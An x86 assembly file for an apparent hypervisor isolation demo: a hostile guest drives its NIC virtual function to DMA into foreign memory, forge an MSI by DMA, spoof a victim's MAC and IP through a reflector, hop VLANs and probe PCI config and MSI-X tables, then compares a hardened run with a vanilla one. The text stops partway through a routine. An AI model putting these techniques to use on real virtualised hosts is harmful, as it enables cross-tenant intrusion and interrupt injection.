; =============================================================================================
; io-attacker.asm - a hostile guest with a VF of its own: attacks through the device
; =============================================================================================
;
; What it demonstrates: what a ring-0 guest can try once Xen has given it a real device. The
; CPU-side attacks of attacker.asm are answered by EPT and the hypervisor; here the guest
; programs the NIC's virtual function to do the work for it: DMA to and from memory it does not
; own, DMA into the interrupt window (an MSI forged by DMA), frames with a stolen source MAC or
; its own VLAN tag, and writes to registers and tables it may not change. In the secure profile
; VT-d (DMA and interrupt remapping), the embedded switch (anti-spoofing, port VLANs) and the
; security groups must stop every one; forked to vanilla (dom0's bridge and netback, no
; interrupt remapping), some get through - compare the two runs' net.frame, dma.request and msi
; events (`chronovisor log DB --kind net --kind dma --kind msi`).
;
; The driver is netkernel.asm's (PCI config, BARs at 0xF0000000/0xF0004000 mapped by a page
; table of their own, MSI-X entry 0 = vector 0x41, 8 + 8 legacy descriptors), with one
; difference: the rx ring starts with no descriptor given to the device; each rx attack gives
; exactly one, the one at RDH, with the buffer address under test.
;
; How it makes the device DMA into its rx ring: the switch never loops a frame back to its
; sender, so it asks someone else to send. The reflector (bob, an echo on the same VLAN)
; answers any datagram to its sender's MAC and IP, so the attacker sends bob a datagram from
; its own MAC (anti-spoofing passes) but with the victim's IP and port 40000 (bob's security
; group lets the victim talk to bob): bob's echo comes back to the attacker's MAC. Its first
; four bytes are the attacker's MAC, 42:00:00:00 - which, written by DMA at 0xFEE00000, is a
; compatibility-format MSI with data 0x00000042: vector 0x42.
;
; Each line is "[tag] what (expect): outcome". Expectations are the secure profile's; the
; outcome is what the guest can see (descriptor status, RDH/TDH, interrupts by vector). What the
; device and the switch did is in the recording: net.frame events carry the switch's verdict
; (spoof, vlan, security-group, dma-fault...), dma.request the VT-d translation or its fault,
; msi the interrupt remapping unit's answer.
;
;   [f1] UDP from its own MAC and IP to the reflector                  security group drops it
;   [f2] the victim's source MAC and IP, to the reflector, "forged by mallory, as alice"
;                                                                      anti-spoofing drops it
;        (without anti-spoofing the reflector echoes it to the victim, who prints it)
;   [f3] its own 802.1Q tag (HOP_VLAN) inside the frame                 VLAN hopping dropped
;   [r1] rx buffer at 0x00800000 (8 MiB, not its memory)               DMA fault, RDH stays
;   [r2] rx buffer at 0xFEE00000: a compatibility-format MSI by DMA,
;        data 0x00000042 = vector 0x42                                 blocked (VT-d fault 0x25)
;   [r3] rx buffer at 0xFEE00010: remappable format, handle 0, the IRTE
;        Xen gave the first VF it set up (the victim's)                blocked (source-id, 0x26)
;   [r4] rx buffer at 0xFFFFF000 (top of the address space)            DMA fault
;   [r5] control: rx buffer in its own memory                          the echo arrives
;   [p1] config read of 00:05.0, a function it was not given          ffffffff
;   [p2] config read of bus 2, device 0 (where the host's PF sits)    ffffffff
;   [p3] write 0xf0100000 into BAR0 (config 0x10) to move its window  reads 0: the window stays
;   [c1] VFMACL/VFMACH <- the victim's MAC (read-only registers)       MAC unchanged
;   [m1] MSI-X entry 0 address <- 0xFEE00010: remappable format, handle 0; Xen keeps its own
;        message in the real table                                    reads back its own value;
;                                                                      interrupts stay its own
;   [t1] tx buffer at 0x00040000 (the first byte past its 256 KiB)     DMA fault, queue stalls
;   [t2] tx buffer at 0x00800000                                       DMA fault
;   [t3] tx buffer at 0xFFFFF000                                       DMA fault
;   [t4] tx descriptor ring at 0x00800000                              DMA fault
; The frame and rx attacks come first, while the victim still runs (its IRTE is live for [r3],
; and in vanilla it receives the echo of [f2]).
; After each tx attack the queues are reset (VFCTRL.RST) and set up again, since a faulting
; descriptor stalls its queue. Then a summary: interrupts by vector (0x20 the timer, 0x41 its
; own NIC vector; any other is foreign), exceptions, and shutdown.
;
; Defines (all required):
;   MY_IP          its own address, e.g. 0x0a000042 for 10.0.0.66 (the MAC comes from VFMACL)
;   VICTIM_IP      whose address it borrows, e.g. 0x0a000001
;   VICTIM_MAC     whose MAC it steals, as a 48-bit number, e.g. 0x020000000001
;   REFLECTOR_IP   the echo it bounces datagrams off, e.g. 0x0a000002
;   REFLECTOR_MAC  e.g. 0x020000000002
;   HOP_VLAN       the VLAN id it writes into its own 802.1Q tag, e.g. 20
;
; Guest ABI and memory map: as netkernel.asm (needs 128 KiB; the demo gives 256 KiB), except
; that the rx buffers at 0x14000 are the "own memory" buffers of [r5].
; =============================================================================================

bits 32
org 0x1000

; The defines, all named once up front: without one, assembly stops here, naming it.
DEFINES_GIVEN           equ MY_IP + VICTIM_IP + VICTIM_MAC + REFLECTOR_IP + REFLECTOR_MAC + HOP_VLAN

; ---- the machine ABI -------------------------------------------------------------------------
HYPERCALL_CONSOLE_IO    equ 18
HYPERCALL_SCHED_OP      equ 29
CONSOLEIO_WRITE         equ 0
SCHEDOP_SHUTDOWN        equ 2
MSR_X2APIC_EOI          equ 0x80b
MSR_X2APIC_LVT_TIMER    equ 0x832
MSR_X2APIC_INIT_COUNT   equ 0x838
LVT_TIMER_PERIODIC      equ 1 << 17

; ---- x86 ---------------------------------------------------------------------------------------
PG_P                    equ 0x001
PG_RW                   equ 0x002
PG_PWT                  equ 0x008
PG_PCD                  equ 0x010
CR0_WP                  equ 1 << 16
CR0_PG                  equ 1 << 31
KERNEL_CS               equ 0x08
GATE_INTERRUPT_32       equ 0x8e00

; ---- PCI and the VF (see netkernel.asm) ----------------------------------------------------------
PCI_CONFIG_ADDRESS      equ 0xcf8
PCI_CONFIG_DATA         equ 0xcfc
PCI_ENABLE              equ 0x80000000
VF_DEVICE               equ 4
VF_CONFIG               equ PCI_ENABLE | (VF_DEVICE << 11)
OTHER_CONFIG            equ PCI_ENABLE | (5 << 11)          ; 00:05.0
PF_CONFIG               equ PCI_ENABLE | (2 << 16)          ; 02:00.0
VF_IDS                  equ 0x10ed8086
PCI_COMMAND             equ 0x04
PCI_COMMAND_MEMORY      equ 1 << 1
PCI_COMMAND_MASTER      equ 1 << 2
PCI_STATUS              equ 0x06
PCI_STATUS_CAP_LIST     equ 1 << 4
PCI_BASE_ADDRESS_0      equ 0x10
PCI_CAPABILITY_LIST     equ 0x34
PCI_CAP_ID_MSIX         equ 0x11
MSIX_FLAGS_ENABLE       equ 1 << 15

NIC_BAR0                equ 0xf0000000
NIC_BAR3                equ 0xf0004000
BAR3_OFFSET             equ NIC_BAR3 - NIC_BAR0
VFCTRL                  equ 0x0000
VFSTATUS                equ 0x0008
VFEICR                  equ 0x0100
VFEIMS                  equ 0x0108
VFMACL                  equ 0x0400
VFMACH                  equ 0x0404
VFRDBAL                 equ 0x1000
VFRDBAH                 equ 0x1004
VFRDLEN                 equ 0x1008
VFRDH                   equ 0x1010
VFRDT                   equ 0x1018
VFRXDCTL                equ 0x1028
VFTDBAL                 equ 0x2000
VFTDBAH                 equ 0x2004
VFTDLEN                 equ 0x2008
VFTDH                   equ 0x2010
VFTDT                   equ 0x2018
VFTXDCTL                equ 0x2028
VFCTRL_RST              equ 1 << 26
VFSTATUS_LU             equ 1 << 1
DCTL_ENABLE             equ 1 << 25
EICR_RX                 equ 1 << 0
TXD_CMD                 equ 0x0b                    ; EOP | IFCS | RS
TXD_STA_DD              equ 0x01
RXD_STA_DD              equ 0x01
MSI_ADDRESS             equ 0xfee00000
MSI_REMAPPABLE_HANDLE_0 equ 0xfee00010              ; bit 4: remappable format; handle 0
NIC_VECTOR              equ 0x41

; ---- Ethernet / IPv4 / UDP ----------------------------------------------------------------------
ETH_DST                 equ 0
ETH_SRC                 equ 6
ETH_TYPE                equ 12
IP_HDR                  equ 14
IP_PROTO                equ IP_HDR + 9
IP_CSUM                 equ IP_HDR + 10
IP_SRC                  equ IP_HDR + 12
IP_DST                  equ IP_HDR + 16
UDP_HDR                 equ 34
UDP_SPORT               equ UDP_HDR
UDP_DPORT               equ UDP_HDR + 2
UDP_LEN                 equ UDP_HDR + 4
UDP_CSUM                equ UDP_HDR + 6
PAYLOAD                 equ 42
IP_PROTO_UDP            equ 17
NET_IPV4                equ 0x0008
NET_VLAN                equ 0x0081                  ; ethertype 0x8100, as a little-endian word
SPORT_NET               equ 0x409c                  ; 40000 in network order
DPORT_NET               equ 0x0700                  ; 7 in network order
MY_IP_NET               equ ((MY_IP >> 24) & 0xff) | ((MY_IP >> 8) & 0xff00) | ((MY_IP << 8) & 0xff0000) | ((MY_IP << 24) & 0xff000000)
VICTIM_IP_NET           equ ((VICTIM_IP >> 24) & 0xff) | ((VICTIM_IP >> 8) & 0xff00) | ((VICTIM_IP << 8) & 0xff0000) | ((VICTIM_IP << 24) & 0xff000000)
REFLECTOR_IP_NET        equ ((REFLECTOR_IP >> 24) & 0xff) | ((REFLECTOR_IP >> 8) & 0xff00) | ((REFLECTOR_IP << 8) & 0xff0000) | ((REFLECTOR_IP << 24) & 0xff000000)

; ---- tunables -------------------------------------------------------------------------------------
TIMER_VECTOR            equ 0x20
TIMER_PERIOD            equ 1000                    ; ticks
START_DELAY             equ 4                       ; periods: the others boot meanwhile
SETTLE                  equ 3                       ; periods to wait after each attack
TX_DESCS                equ 8
RX_DESCS                equ 8
BUFFER_BYTES            equ 2048
SHOW_MAX                equ 48

; ---- layout (as netkernel.asm) ---------------------------------------------------------------------
IMAGE_BASE              equ 0x1000
KDATA                   equ 0x08000
IDT                     equ 0x09000
PD                      equ 0x0a000
PT_LOW                  equ 0x0b000
PT_MMIO                 equ 0x0c000
TX_RING                 equ 0x0d000
RX_RING                 equ 0x0d100
CLEAR_END               equ 0x0e000
TX_BUFS                 equ 0x10000
RX_BUFS                 equ 0x14000
STACK_TOP               equ 0x20000
MEMORY_END              equ 0x40000                 ; the demo's 256 KiB

; ---- variables ------------------------------------------------------------------------------------
ticks                   equ KDATA + 0x00
nic_irqs                equ KDATA + 0x04
eicr_seen               equ KDATA + 0x0c
faults                  equ KDATA + 0x10            ; exceptions taken during attacks
tx_next                 equ KDATA + 0x14
recover                 equ KDATA + 0x18            ; where an exception resumes (0: none armed)
recover_esp             equ KDATA + 0x1c
msix_cap                equ KDATA + 0x40
cursor                  equ KDATA + 0x44
cursor_end              equ KDATA + 0x4c
my_mac                  equ KDATA + 0x50            ; 6 bytes
f_dst_mac               equ KDATA + 0x58            ; the frame build_udp builds: 6 bytes
f_src_mac               equ KDATA + 0x60            ; 6 bytes
f_src_ip                equ KDATA + 0x68            ; network order
f_dst_ip                equ KDATA + 0x6c
seen_41                 equ KDATA + 0x70            ; interrupt counts when an rx attack began
seen_42                 equ KDATA + 0x74
seen_total              equ KDATA + 0x78
irq_total               equ KDATA + 0x7c            ; every interrupt but the timer's
rx_desc                 equ KDATA + 0x80            ; the descriptor an rx attack armed
vectors                 equ KDATA + 0x400           ; dd [256]: interrupts by vector
out_buf                 equ KDATA + 0x800
OUT_MAX                 equ 0x800

; ====================================================================================================
; Boot: as netkernel.asm
; ====================================================================================================
start:
        cli
        mov esp, STACK_TOP
        mov edi, KDATA
        mov ecx, (CLEAR_END - KDATA) / 4
        xor eax, eax
        rep stosd
        mov dword [cursor], out_buf
        mov dword [cursor_end], out_buf + OUT_MAX

        xor ebx, ebx
        mov eax, irq_stubs
.idt:
        mov [IDT + ebx*8], ax
        mov word [IDT + ebx*8 + 2], KERNEL_CS
        mov word [IDT + ebx*8 + 4], GATE_INTERRUPT_32
        mov edx, eax
        shr edx, 16
        mov [IDT + ebx*8 + 6], dx
        add eax, 5
        inc ebx
        cmp ebx, 256
        jb .idt
        lidt [idt_descriptor]

        mov ebx, 1
.low:
        mov eax, ebx
        shl eax, 12
        or eax, PG_P | PG_RW
        mov [PT_LOW + ebx*4], eax
        inc ebx
        cmp ebx, 256
        jb .low
        xor ebx, ebx
.mmio:
        mov eax, ebx
        shl eax, 12
        add eax, NIC_BAR0 | PG_P | PG_RW | PG_PCD | PG_PWT
        mov [PT_MMIO + ebx*4], eax
        inc ebx
        cmp ebx, 8
        jb .mmio
        mov dword [PD], PT_LOW | PG_P | PG_RW
        mov dword [PD + (NIC_BAR0 >> 22) * 4], PT_MMIO | PG_P | PG_RW
        mov eax, PD
        mov cr3, eax
        mov eax, cr0
        or eax, CR0_PG | CR0_WP
        mov cr0, eax

        call nic_init
        test eax, eax
        jz shutdown

        mov ecx, MSR_X2APIC_LVT_TIMER
        mov eax, TIMER_VECTOR | LVT_TIMER_PERIODIC
        xor edx, edx
        wrmsr
        mov ecx, MSR_X2APIC_INIT_COUNT
        mov eax, TIMER_PERIOD
        xor edx, edx
        wrmsr
        sti

        mov esi, msg_hello
        call puts
        mov eax, MY_IP
        call putip
        mov esi, msg_victim
        call puts
        mov eax, VICTIM_IP
        call putip
        mov esi, msg_open
        call puts
        mov esi, victim_mac
        call putmac
        mov esi, msg_reflector
        call puts
        mov eax, REFLECTOR_IP
        call putip
        mov esi, msg_open
        call puts
        mov esi, reflector_mac
        call putmac
        mov esi, msg_close_nl
        call puts
        call flush
        mov eax, START_DELAY
        call wait_periods

        ; ---- the attacks, in order: each one runs with a recovery point armed -----------------------
        mov esi, attacks
.next_attack:
        mov ebx, [esi]
        test ebx, ebx
        jz .summary
        push esi
        call run_attack
        pop esi
        add esi, 4
        jmp .next_attack
.summary:
        mov eax, SETTLE
        call wait_periods
        jmp finish

attacks:
        dd attack_f1, attack_f2, attack_f3
        dd attack_r1, attack_r2, attack_r3, attack_r4, attack_r5
        dd attack_p1, attack_p2, attack_p3, attack_c1, attack_m1
        dd attack_t1, attack_t2, attack_t3, attack_t4, 0

; run_attack: EBX = the attack routine. An exception inside it is printed and resumes here.
run_attack:
        mov [recover_esp], esp
        mov dword [recover], .resume
        call ebx
.resume:
        mov esp, [recover_esp]
        mov dword [recover], 0
        mov al, 10
        call putc
        jmp flush

; wait_periods: EAX = timer periods to sleep (IF = 1).
wait_periods:
        push eax
        add eax, [ticks]
.sleep:
        hlt
        cmp [ticks], eax
        jb .sleep
        pop eax
        ret

; ====================================================================================================
; The attacks. Each prints its line (without the newline, which run_attack adds).
; ====================================================================================================

; ---- PCI configuration space -----------------------------------------------------------------------
attack_p1:
        mov esi, msg_p1
        call puts
        mov eax, OTHER_CONFIG
        jmp config_probe
attack_p2:
        mov esi, msg_p2
        call puts
        mov eax, PF_CONFIG
config_probe:                               ; EAX = CONFIG_ADDRESS of register 0: print what reads
        mov dx, PCI_CONFIG_ADDRESS
        out dx, eax
        mov dx, PCI_CONFIG_DATA
        in eax, dx
        mov ecx, 8
        jmp puthex

attack_p3:
        mov esi, msg_p3
        call puts
        mov ecx, PCI_BASE_ADDRESS_0
        mov eax, 0xf0100000
        call pci_write32
        call pci_read32
        mov ecx, 8
        call puthex
        mov esi, msg_p3_after
        call puts
        mov ecx, VFSTATUS                   ; the registers still answer at the old window?
        call nic_read
        mov ecx, 8
        jmp puthex

; ---- registers and the MSI-X table ------------------------------------------------------------------
attack_c1:
        mov esi, msg_c1
        call puts
        mov eax, [victim_mac]
        mov ecx, VFMACL
        call nic_write
        movzx eax, word [victim_mac + 4]
        mov ecx, VFMACH
        call nic_write
        mov ecx, VFMACL
        call nic_read
        mov [f_src_mac], eax
        mov ecx, VFMACH
        call nic_read
        mov [f_src_mac + 4], ax
        mov esi, f_src_mac
        jmp putmac

attack_m1:
        mov esi, msg_m1
        call puts
        mov ecx, BAR3_OFFSET + 0
        mov eax, MSI_REMAPPABLE_HANDLE_0
        call nic_write
        mov ecx, BAR3_OFFSET + 0
        call nic_read
        mov ecx, 8
        call puthex
        mov esi, msg_m1_after
        jmp puts

; ---- frames ----------------------------------------------------------------------------------------
attack_f1:                                  ; our own addresses: the security group
        mov esi, msg_f1
        call puts
        call frame_to_reflector
        mov esi, text_f1
        call build_udp
        jmp send_and_report

attack_f2:                                  ; the victim's MAC and IP: anti-spoofing
        mov esi, msg_f2
        call puts
        call frame_to_reflector
        mov eax, [victim_mac]
        mov [f_src_mac], eax
        mov ax, [victim_mac + 4]
        mov [f_src_mac + 4], ax
        mov dword [f_src_ip], VICTIM_IP_NET
        mov esi, text_f2
        call build_udp
        jmp send_and_report

attack_f3:                                  ; our own 802.1Q tag: VLAN hopping
        mov esi, msg_f3
        call puts
        call frame_to_reflector
        mov esi, text_f3
        call build_udp
        ; make room for the tag after the MACs: move bytes 12.. up by 4, from the end
        mov esi, ecx
.move:
        dec esi
        mov al, [edi + esi]
        mov [edi + esi + 4], al
        cmp esi, ETH_TYPE
        ja .move
        mov word [edi + ETH_TYPE], NET_VLAN
        mov byte [edi + ETH_TYPE + 2], (HOP_VLAN >> 8) & 0x0f
        mov byte [edi + ETH_TYPE + 3], HOP_VLAN & 0xff
        add ecx, 4
        jmp send_and_report

; frame_to_reflector: the default frame: our MAC and IP, to the reflector's, ports 40000 -> 7.
frame_to_reflector:
        mov eax, [reflector_mac]
        mov [f_dst_mac], eax
        mov ax, [reflector_mac + 4]
        mov [f_dst_mac + 4], ax
        mov eax, [my_mac]
        mov [f_src_mac], eax
        mov ax, [my_mac + 4]
        mov [f_src_mac + 4], ax
        mov dword [f_src_ip], MY_IP_NET
        mov dword [f_dst_ip], REFLECTOR_IP_NET
        ret

; send_and_report: EDI = frame, ECX = length. Sends it, waits, and prints what the guest can
; see of it: the descriptor's DD and TDH.
send_and_report:
        call tx_send
        mov eax, SETTLE
        call wait_periods
        mov esi, msg_sent_dd
        call puts
        movzx eax, byte [ebx + 12]          ; tx_send left EBX = the descriptor
        and eax, TXD_STA_DD
        call putdec
        mov esi, msg_tdh
        call puts
        mov ecx, VFTDH
        call nic_read
        call putdec
        mov esi, msg_see_log
        jmp puts

; ---- rx DMA: one descriptor (the one at RDH) with the buffer under test, then a reflection --------
attack_r1:
        mov esi, msg_r1
        call puts
        mov eax, 0x00800000
        jmp rx_attack
attack_r2:
        mov esi, msg_r2
        call puts
        mov eax, MSI_ADDRESS
        jmp rx_attack
attack_r3:
        mov esi, msg_r3
        call puts
        mov eax, MSI_REMAPPABLE_HANDLE_0
        jmp rx_attack
attack_r4:
        mov esi, msg_r4
        call puts
        mov eax, 0xfffff000
        jmp rx_attack
attack_r5:
        mov esi, msg_r5
        call puts
        mov eax, RX_BUFS                    ; our own memory (the real buffer of the control)
rx_attack:                                  ; EAX = the buffer address for the descriptor at RDH
        push eax
        mov ecx, VFRDH
        call nic_read
        and eax, RX_DESCS - 1
        mov [rx_desc], eax
        shl eax, 4
        lea ebx, [RX_RING + eax]
        pop eax
        mov [ebx], eax                      ; buffer
        xor eax, eax
        mov [ebx + 4], eax
        mov [ebx + 8], eax                  ; length, checksum
        mov [ebx + 12], eax                 ; status, errors, VLAN
        mov eax, [rx_desc]                  ; give the device exactly this one
        inc eax
        and eax, RX_DESCS - 1
        mov ecx, VFRDT
        call nic_write
        mov eax, [vectors + NIC_VECTOR * 4]
        mov [seen_41], eax
        mov eax, [vectors + 0x42 * 4]
        mov [seen_42], eax
        mov eax, [irq_total]
        mov [seen_total], eax
        ; the reflection: to bob from our MAC, with the victim's IP and port
        call frame_to_reflector
        mov dword [f_src_ip], VICTIM_IP_NET
        mov esi, text_reflect
        call build_udp
        call tx_send
        mov eax, SETTLE
        call wait_periods
        ; what landed
        mov esi, msg_rx_status
        call puts
        mov ebx, [rx_desc]
        shl ebx, 4
        add ebx, RX_RING
        movzx eax, byte [ebx + 12]
        mov ecx, 2
        call puthex
        mov esi, msg_rx_len
        call puts
        movzx eax, word [ebx + 8]
        call putdec
        mov esi, msg_rdh
        call puts
        mov ecx, VFRDH
        call nic_read
        call putdec
        mov esi, msg_irq_41
        call puts
        mov eax, [vectors + NIC_VECTOR * 4]
        sub eax, [seen_41]
        call putdec
        mov esi, msg_irq_42
        call puts
        mov eax, [vectors + 0x42 * 4]
        sub eax, [seen_42]
        call putdec
        mov esi, msg_irq_other
        call puts
        mov eax, [irq_total]
        sub eax, [seen_total]
        sub eax, [vectors + NIC_VECTOR * 4]
        add eax, [seen_41]
        call putdec
        test byte [ebx + 12], RXD_STA_DD    ; a frame in our own buffer: show it
        jz .done
        mov esi, [ebx]
        cmp esi, MEMORY_END
        jae .done
        movzx ecx, word [ebx + 8]
        mov al, ' '
        call putc
        call put_sender
        mov al, ' '
        call putc
        call put_payload
.done:
        ret

; ---- tx DMA from addresses that are not ours (each stalls the queue: reset afterwards) ------------
attack_t1:
        mov esi, msg_t1
        call puts
        mov eax, MEMORY_END
        jmp tx_attack
attack_t2:
        mov esi, msg_t2
        call puts
        mov eax, 0x00800000
        jmp tx_attack
attack_t3:
        mov esi, msg_t3
        call puts
        mov eax, 0xfffff000
tx_attack:                                  ; EAX = the buffer address of a 64-byte frame
        mov ebx, [tx_next]
        shl ebx, 4
        add ebx, TX_RING
        mov [ebx], eax
        mov dword [ebx + 4], 0
        mov dword [ebx + 8], 64 | (TXD_CMD << 24)
        mov dword [ebx + 12], 0
        mov eax, [tx_next]
        inc eax
        and eax, TX_DESCS - 1
        mov [tx_next], eax
        mov ecx, VFTDT
        call nic_write
        jmp tx_report

attack_t4:
        mov esi, msg_t4
        call puts
        mov ecx, VFTDBAL
        mov eax, 0x00800000
        call nic_write
        mov ebx, [tx_next]                  ; (what we would have used: our own descriptor)
        shl ebx, 4
        add ebx, TX_RING
        mov dword [ebx + 12], 0
        mov eax, [tx_next]
        inc eax
        and eax, TX_DESCS - 1
        mov ecx, VFTDT
        call nic_write
tx_report:                                  ; EBX = the descriptor in our ring
        mov eax, SETTLE
        call wait_periods
        mov esi, msg_tx_dd
        call puts
        movzx eax, byte [ebx + 12]
        and eax, TXD_STA_DD
        call putdec
        mov esi, msg_tdh
        call puts
        mov ecx, VFTDH
        call nic_read
        call putdec
        mov esi, msg_reset
        call puts
        jmp queues_setup                    ; the queue is stalled: reset the VF's queues

; ====================================================================================================
; Frames
; ====================================================================================================

; build_udp: ESI = NUL-terminated payload; the addresses from f_dst_mac, f_src_mac, f_src_ip,
; f_dst_ip, ports 40000 -> 7. Returns EDI = the next tx buffer (always free: one frame at a
; time) and ECX = the frame length.
build_udp:
        push eax
        mov edi, [tx_next]
        shl edi, 11
        add edi, TX_BUFS
        mov eax, [f_dst_mac]
        mov [edi + ETH_DST], eax
        mov ax, [f_dst_mac + 4]
        mov [edi + ETH_DST + 4], ax
        mov eax, [f_src_mac]
        mov [edi + ETH_SRC], eax
        mov ax, [f_src_mac + 4]
        mov [edi + ETH_SRC + 4], ax
        mov eax, [f_src_ip]
        mov [edi + IP_SRC], eax
        mov eax, [f_dst_ip]
        mov [edi + IP_DST], eax
        mov word [edi + UDP_SPORT], SPORT_NET
        mov word [edi + UDP_DPORT], DPORT_NET
        xor ecx, ecx
.copy:
        mov al, [esi + ecx]
        mov [edi + PAYLOAD + ecx], al
        inc ecx
        test al, al
        jnz .copy
        dec ecx                             ; the NUL is not sent
        call udp_headers
        pop eax
        ret

; tx_send: EDI = buffer, ECX = length. Fills the descriptor at tx_next and rings the doorbell.
; Returns EBX = the descriptor.
tx_send:
        push eax
        push ecx
        mov ebx, [tx_next]
        shl ebx, 4
        add ebx, TX_RING
        mov [ebx], edi
        mov dword [ebx + 4], 0
        mov eax, ecx
        or eax, TXD_CMD << 24
        mov [ebx + 8], eax
        mov dword [ebx + 12], 0
        mov eax, [tx_next]
        inc eax
        and eax, TX_DESCS - 1
        mov [tx_next], eax
        mov ecx, VFTDT
        call nic_write
        pop ecx
        pop eax
        ret

; ====================================================================================================
; The driver (netkernel.asm's, with the queues set up by queues_setup so that they can be reset)
; ====================================================================================================

; nic_init: EAX = 1, or 0 when there is no VF to drive (after saying so).
nic_init:
        mov ecx, 0
        call pci_read32
        cmp eax, VF_IDS
        je .found
        push eax
        mov esi, msg_no_vf
        call puts
        pop eax
        mov ecx, 8
        call puthex
        mov esi, msg_no_vf_tail
        call puts
        call flush
        xor eax, eax
        ret
.found:
        mov ecx, PCI_COMMAND
        call pci_read16
        or eax, PCI_COMMAND_MEMORY | PCI_COMMAND_MASTER
        call pci_write16
        mov ecx, PCI_STATUS
        call pci_read16
        test eax, PCI_STATUS_CAP_LIST
        jz .no_msix
        mov ecx, PCI_CAPABILITY_LIST
        call pci_read8
        mov ebx, 48
.cap:
        and eax, 0xfc
        jz .no_msix
        mov ecx, eax
        call pci_read32
        cmp al, PCI_CAP_ID_MSIX
        je .msix
        shr eax, 8
        dec ebx
        jnz .cap
.no_msix:
        mov esi, msg_no_msix
        call puts
        call flush
        xor eax, eax
        ret
.msix:
        mov [msix_cap], ecx
        add ecx, 2
        call pci_read16
        or eax, MSIX_FLAGS_ENABLE
        call pci_write16

        mov esi, msg_found
        call puts
        mov eax, [msix_cap]
        mov ecx, 2
        call puthex
        mov al, 10
        call putc
        call flush

        mov ecx, VFMACL
        call nic_read
        mov [my_mac], eax
        mov ecx, VFMACH
        call nic_read
        mov [my_mac + 4], ax

        mov ecx, BAR3_OFFSET + 0
        mov eax, MSI_ADDRESS
        call nic_write
        mov ecx, BAR3_OFFSET + 4
        xor eax, eax
        call nic_write
        mov ecx, BAR3_OFFSET + 8
        mov eax, NIC_VECTOR
        call nic_write
        mov ecx, BAR3_OFFSET + 12
        xor eax, eax
        call nic_write

        call queues_setup

        mov esi, msg_mac
        call puts
        mov esi, my_mac
        call putmac
        mov ecx, VFSTATUS
        call nic_read
        mov esi, msg_link_up
        test eax, VFSTATUS_LU
        jnz .link
        mov esi, msg_link_down
.link:
        call puts
        mov esi, msg_rings
        call puts
        call flush
        mov eax, 1
        ret

; queues_setup: VF reset (head and tail back to 0), then both rings on: tx empty, rx with NO
; descriptor given (each rx attack gives exactly one). Interrupts: rx.
queues_setup:
        pushad
        mov ecx, VFCTRL
        mov eax, VFCTRL_RST
        call nic_write
        mov edi, TX_RING                    ; both rings back to zeros
        mov ecx, 2 * 128 / 4
        xor eax, eax
        rep stosd
        mov dword [tx_next], 0
        mov ecx, VFRDBAL
        mov eax, RX_RING
        call nic_write
        mov ecx, VFRDBAH
        xor eax, eax
        call nic_write
        mov ecx, VFRDLEN
        mov eax, RX_DESCS * 16
        call nic_write
        mov ecx, VFRXDCTL
        mov eax, DCTL_ENABLE
        call nic_write
        mov ecx, VFTDBAL
        mov eax, TX_RING
        call nic_write
        mov ecx, VFTDBAH
        xor eax, eax
        call nic_write
        mov ecx, VFTDLEN
        mov eax, TX_DESCS * 16
        call nic_write
        mov ecx, VFTXDCTL
        mov eax, DCTL_ENABLE
        call nic_write
        mov ecx, VFEIMS
        mov eax, EICR_RX
        call nic_write
        popad
        ret

; finish: timer and queues off, the summary, shutdown.
finish:
        cli
        mov ecx, MSR_X2APIC_INIT_COUNT
        xor eax, eax
        xor edx, edx
        wrmsr
        mov ecx, VFRXDCTL
        xor eax, eax
        call nic_write
        mov ecx, VFTXDCTL
        call nic_write
        mov esi, msg_summary
        call puts
        xor ebx, ebx                        ; every vector that fired, with its count
.vector:
        mov eax, [vectors + ebx*4]
        test eax, eax
        jz .skip
        mov esi, msg_vector
        call puts
        mov eax, ebx
        mov ecx, 2
        call puthex
        mov al, ':'
        call putc
        mov al, ' '
        call putc
        mov eax, [vectors + ebx*4]
        call putdec
.skip:
        inc ebx
        cmp ebx, 256
        jb .vector
        mov esi, msg_faults
        call puts
        mov eax, [faults]
        call putdec
        mov esi, msg_bye
        call puts
        call flush
shutdown:
        mov eax, HYPERCALL_SCHED_OP
        mov ebx, SCHEDOP_SHUTDOWN
        vmcall
.hang:
        cli
        hlt
        jmp .hang

; ====================================================================================================
; Interrupts and exceptions: vector v enters at irq_stubs + 5 * v (CALL irq_entry). Interrupts
; are counted by vector (the timer's, our NIC's, and any other: a forged MSI would show here).
; ====================================================================================================
irq_entry:
        pushad
        mov eax, [esp + 32]
        sub eax, irq_stubs + 5
        xor edx, edx
        mov ecx, 5
        div ecx                             ; EAX = vector
        cmp eax, 32
        jb exception
        inc dword [vectors + eax*4]
        cmp eax, TIMER_VECTOR
        je .timer
        inc dword [irq_total]
        cmp eax, NIC_VECTOR
        jne .eoi
        inc dword [nic_irqs]
        mov ecx, VFEICR
        call nic_read
        or [eicr_seen], eax
        jmp .eoi
.timer:
        inc dword [ticks]
.eoi:
        mov ecx, MSR_X2APIC_EOI
        xor eax, eax
        xor edx, edx
        wrmsr
        popad
        add esp, 4
        iretd

; An exception: printed; with a recovery point armed the attack is abandoned there, otherwise
; it is fatal. EAX = vector; [esp + 36] is the error code (8, 10-14, 17) or the EIP.
exception:
        mov ebx, eax
        lea ebp, [esp + 36]
        inc dword [faults]
        mov esi, msg_exception
        call puts
        mov eax, ebx
        mov ecx, 2
        call puthex
        cmp ebx, 8
        je .error_code
        cmp ebx, 17
        je .error_code
        cmp ebx, 10
        jb .eip
        cmp ebx, 14
        ja .eip
.error_code:
        mov esi, msg_panic_error
        call puts
        mov eax, [ebp]
        mov ecx, 8
        call puthex
        add ebp, 4
.eip:
        mov esi, msg_panic_eip
        call puts
        mov eax, [ebp]
        mov ecx, 8
        call puthex
        mov esi, msg_panic_cr2
        call puts
        mov eax, cr2
        mov ecx, 8
        call puthex
        mov eax, [recover]
        test eax, eax
        jz .fatal
        mov dword [recover], 0
        mov esp, [recover_esp]
        sti                                 ; the gate cleared IF; the attacks run with it set
        jmp eax
.fatal:
        mov al, 10
        call putc
        call flush
        jmp shutdown

irq_stubs:
        times 256 call irq_entry

; nic_read: ECX = register offset in BAR0 -> EAX. nic_write: ECX = offset, EAX = value.
; One plain 32-bit MOV each: the access exits and the hypervisor emulates it.
nic_read:
        mov eax, [NIC_BAR0 + ecx]
        ret
nic_write:
        mov [NIC_BAR0 + ecx], eax
        ret

; PCI configuration space of 00:04.0. ECX = register offset; pci_read* return EAX (zero-
; extended), pci_write16 writes AX, pci_write32 EAX. EDX is clobbered.
pci_select:
        push eax
        mov eax, ecx
        and eax, 0xfc
        or eax, VF_CONFIG
        mov dx, PCI_CONFIG_ADDRESS
        out dx, eax
        mov edx, ecx
        and edx, 3
        add edx, PCI_CONFIG_DATA
        pop eax
        ret
pci_read32:
        call pci_select
        in eax, dx
